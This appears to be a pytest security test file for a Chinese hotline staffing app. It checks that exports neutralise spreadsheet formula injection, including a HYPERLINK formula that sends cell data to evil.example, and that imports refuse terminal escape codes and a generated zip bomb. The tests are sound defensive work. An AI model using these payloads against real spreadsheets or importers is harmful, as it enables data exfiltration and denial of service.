"""Hostile input and tampering: what a clumsy operator or an attacker would try (#13)."""

from __future__ import annotations

import zipfile
from datetime import date

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from hotline_tui.config import SlaSpec
from hotline_tui.domain.clocks import urgent
from hotline_tui.domain.people.roster import list_staff
from hotline_tui.domain.shifts import list_shifts
from hotline_tui.errors import DomainError
from hotline_tui.exports.attendance_sheet import write_sheet
from hotline_tui.exports.cells import csv_cell
from hotline_tui.exports.kpi_review import write_review
from hotline_tui.exports.staff_list import write_staff
from tests import server_db
from tests.conftest import TODAY
from tests.helpers import chief

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点此")'


def formulas_in(path) -> list[str]:
    """Every <f> element of every sheet, read from the XML itself."""
    with zipfile.ZipFile(path) as book:
        return [
            name
            for name in book.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in book.read(name)
        ]


def all_values(path) -> list[object]:
    book = load_workbook(path)
    return [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row]


def test_user_text_never_becomes_a_formula_in_any_workbook(demo_store, clock, tmp_path):
    shifts = list_shifts(demo_store)
    issue = urgent.open_issue(
        demo_store, chief(demo_store), SlaSpec(), shifts, "群体性诉求", HYPERLINK, "+86 10 1234",
        clock.now().replace(hour=8, minute=20),
    )  # fmt: skip
    urgent.resolve(demo_store, chief(demo_store), issue, "-1+1 已办结", delay_reason="@SUM(A1:A9)")
    # A name written into the file by hand, past the checks of the people screen.
    with demo_store.write(None) as tx:
        tx.session.execute(sa.text("UPDATE staff SET name = '=1+2' WHERE staff_no = '1020'"))
        tx.audit("test.name", "staff", "1020")
    review = tmp_path / "kpi.xlsx"
    write_review(demo_store, date(2026, 11, 1), review, clock.now(), shifts)
    sheet = tmp_path / "attendance.xlsx"
    write_sheet(demo_store, date(2026, 11, 1), sheet, clock.now())
    staff = tmp_path / "staff.xlsx"
    write_staff(list_staff(demo_store), staff)
    for path in (review, sheet, staff):
        assert formulas_in(path) == [], path.name
    # Shown as typed, as text; numbers stay numbers.
    values = all_values(review)
    for text in (HYPERLINK, "@SUM(A1:A9)"):
        assert text in values
    assert any(isinstance(v, int) and not isinstance(v, bool) for v in values)
    assert "=1+2" in all_values(sheet) and "=1+2" in all_values(staff)
    book = load_workbook(review)
    cell = next(
        c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value == HYPERLINK
    )
    assert cell.data_type == "s" and cell.quotePrefix


def test_a_csv_cell_is_neutralised_and_numbers_are_kept():
    assert [csv_cell(v) for v in ("=1+1", "+1", "-1", "@x", "\tx", "\rx", "a=b", 42, 0.5)] == [
        "'=1+1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "a=b", 42, 0.5,
    ]  # fmt: skip


def test_escape_codes_in_a_rota_file_come_out_escaped(demo_file, tmp_path, capsys):
    from tests.helpers import PIN_LINE as DEMO_PIN
    from tests.helpers import run_command as run

    bad = tmp_path / "rota.csv"
    bad.write_text(
        "工号,日期,班次\n\x1b]0;owned\x07\x1b[2J1020,2027-01-05,早班\n1020,2027-01-05,\x1b[31m夜班\n",
        encoding="utf-8",
    )
    code, out, err = run(
        capsys, "import-rota", str(bad), "--db", str(demo_file), "--as", "1004", stdin=DEMO_PIN
    )
    assert code == 2
    assert "\x1b" not in err + out and "\x07" not in err + out
    assert "\\x1b[31m夜班" in err and "\\x1b[2J1020" in err


# --- imports that are bounded and never hold the floor's write lock for long -----------------


def _zip_bomb(path, unpacked_mb: int) -> None:
    """A real workbook whose sheet unpacks to ``unpacked_mb`` MB from a few hundred KB."""
    from openpyxl import Workbook

    small = path.with_name("small.xlsx")
    book = Workbook()
    book.active.append(["工号", "日期", "班次"])
    book.save(small)
    row = b'<row><c t="inlineStr"><is><t>1020</t></is></c></row>' * 20_000
    with zipfile.ZipFile(small) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for item in src.infolist():
            if item.filename != "xl/worksheets/sheet1.xml":
                out.writestr(item, src.read(item.filename))
                continue
            with out.open(item.filename, "w", force_zip64=True) as sheet:
                sheet.write(
                    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
                )
                for _ in range(unpacked_mb * 1024 * 1024 // len(row) + 1):
                    sheet.write(row)
                sheet.write(b"</sheetData></worksheet>")


def test_a_zip_bomb_is_refused_before_it_is_unpacked(demo_store, tmp_path):
    import time
    import tracemalloc

    from hotline_tui.imports.rota_file import import_rota

    bomb = tmp_path / "rota.xlsx"
    _zip_bomb(bomb, 300)
    assert bomb.stat().st_size < 2 * 1024 * 1024
    tracemalloc.start()
    started = time.monotonic()
    try:
        with pytest.raises(DomainError, match="解压后超过 200 MB"):
            import_rota(demo_store, chief(demo_store), bomb, list_shifts(demo_store))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert time.monotonic() - started < 5 and peak < 20 * 1024 * 1024


def test_a_long_xlsx_stops_at_the_row_limit_while_streaming(tmp_path):
    from hotline_tui.imports.tabular import read_rows

    long = tmp_path / "long.xlsx"
    _zip_bomb(long, 2)  # 2 MB of rows: under the unpacked limit, over the row limit
    with pytest.raises(DomainError, match="超过 1000 行"):
        read_rows(long, max_rows=1000)


def test_a_100k_row_rota_leaves_other_terminals_writing(demo_store, clock, tmp_path):
    import threading
    import time

    from hotline_tui.db.store import Store
    from hotline_tui.domain.attendance.marking import mark
    from hotline_tui.imports.rota_file import import_rota

    agents = [p.staff_no for p in list_staff(demo_store) if p.post == "组员"]
    early = list_shifts(demo_store)[0]
    with demo_store.read() as session:
        on_duty = list(
            session.execute(
                sa.text(
                    "SELECT s.staff_no FROM rota_entry r JOIN staff s ON s.id = r.staff_id"
                    " WHERE r.day = :day AND r.shift_id = :shift AND s.post = '组员'"
                ),
                {"day": TODAY.isoformat(), "shift": early.id},
            ).scalars()
        )
    rows, day = ["工号,日期,班次"], 0
    while len(rows) <= 100_000:
        rows += [f"{no},{date(2027, 1, 1).toordinal() + day}" for no in agents]
        day += 1
    text = "\n".join(
        r if r == rows[0] else f"{r.split(',')[0]},{date.fromordinal(int(r.split(',')[1]))},早班"
        for r in rows[:100_001]
    )
    big = tmp_path / "rota.csv"
    big.write_text(text + "\n", encoding="utf-8")
    result: dict[str, object] = {}

    def importing() -> None:
        started = time.monotonic()
        try:
            result["done"] = import_rota(
                demo_store, chief(demo_store), big, list_shifts(demo_store)
            )
        except BaseException as exc:
            result["error"] = exc
        result["seconds"] = time.monotonic() - started

    other = Store.open(server_db.store_text(demo_store), clock)
    person = chief(other)
    worker = threading.Thread(target=importing)
    worker.start()
    writes, errors = 0, []
    # Another terminal marks attendance fifty times a second (a floor's busiest terminal
    # marks a few a minute) until the import ends: paced by the import's end, so that
    # the two do not fight for one interpreter's lock and the import is timed, not them.
    while worker.is_alive():
        worker.join(timeout=0.02)
        try:
            mark(
                other,
                person,
                TODAY,
                early,
                on_duty[writes % len(on_duty)],
                ("出勤", "事假")[writes % 2],
            )
            writes += 1
        except DomainError as exc:
            errors.append(exc.message)
    worker.join()
    other.close()
    assert "error" not in result, result.get("error")
    assert result["done"].added == 100_000
    assert errors == [] and writes > 0
    assert result["seconds"] < 60


# --- files and permissions ----------------------------------------------------------------------


def test_a_new_database_and_its_wal_are_for_owner_and_group_only(tmp_path, clock):
    import os
    import stat

    from hotline_tui.db.store import Store

    old = os.umask(0o022)  # the usual umask, which would leave the file world-readable
    try:
        store = Store.open(str(tmp_path / "floor.db"), clock)
        with store.write(None) as tx:
            tx.audit("test.touch", "database", "test")
        modes = {
            p.name: stat.S_IMODE(p.stat().st_mode) for p in tmp_path.iterdir() if "floor" in p.name
        }
        # This terminal's mark for `restore` (db/presence.py): the group's, like the file.
        (mark,) = (tmp_path / "floor.db.terminals").iterdir()
        mark_mode = stat.S_IMODE(mark.stat().st_mode)
        store.close()
    finally:
        os.umask(old)
    assert modes == {"floor.db": 0o660, "floor.db-wal": 0o660, "floor.db-shm": 0o660,
                     "floor.db.terminals": 0o770}  # fmt: skip
    assert mark_mode == 0o660
    assert not (tmp_path / "floor.db.terminals").exists()  # the last one out clears it


def test_refusing_another_programs_wal_database_leaves_no_files_beside_it(tmp_path, clock):
    import sqlite3

    from hotline_tui.db.store import Store
    from hotline_tui.errors import StoreError

    other = tmp_path / "other.db"
    conn = sqlite3.connect(other)
    conn.execute("PRAGMA journal_mode = WAL")
    conn.execute("CREATE TABLE t (x)")
    conn.commit()
    conn.close()
    before = sorted(p.name for p in tmp_path.iterdir())
    with pytest.raises(StoreError, match="别的程序"):
        Store.open(str(other), clock)
    assert sorted(p.name for p in tmp_path.iterdir()) == before


def test_a_flipped_page_stops_the_app_and_the_exports_check_names_it(demo_file, tmp_path, capsys):
    from tests.helpers import digest
    from tests.helpers import run_command as run

    size = demo_file.stat().st_size
    with demo_file.open("r+b") as fh:  # the header of a page in the middle of the file
        fh.seek(size // 2 - (size // 2) % 4096)
        fh.write(b"\xff" * 64)
    before = digest(demo_file)
    out = tmp_path / "archive.md"
    for argv in (
        ["run"],
        ["export", "handovers", "--from", "2026-11-01", "--to", "2026-11-30", "-o", str(out)],
        ["export", "staff", "-o", str(tmp_path / "staff.xlsx"), "--as", "1001"],
    ):
        code, _, err = run(capsys, *argv, "--db", str(demo_file))
        assert code == 2 and "数据库文件已损坏" in err and "hotline-tui check" in err, argv
    assert not out.exists() and not (tmp_path / "staff.xlsx").exists()
    code, said, _ = run(capsys, "check", "--db", str(demo_file))
    assert code == 1 and "malformed" in said
    assert digest(demo_file) == before


def test_rota_dates_only_in_the_formats_the_readme_names(demo_store, tmp_path):
    from hotline_tui.imports.rota_file import RotaFileError, import_rota

    rota = tmp_path / "rota.csv"
    rota.write_text(
        "工号,日期,班次\n1020,20261222,早班\n1021,2026W521,早班\n1022,2026-12-1,早班\n"
        "1023,2026/12/1,早班\n1024,2026-12-01,早班\n",
        encoding="utf-8",
    )
    with pytest.raises(RotaFileError) as refused:
        import_rota(demo_store, chief(demo_store), rota, list_shifts(demo_store))
    assert refused.value.problems == [
        "第 2 行：日期“20261222”无效，应为 YYYY-MM-DD 或 YYYY/M/D",
        "第 3 行：日期“2026W521”无效，应为 YYYY-MM-DD 或 YYYY/M/D",
        "第 4 行：日期“2026-12-1”无效，应为 YYYY-MM-DD 或 YYYY/M/D",
    ]
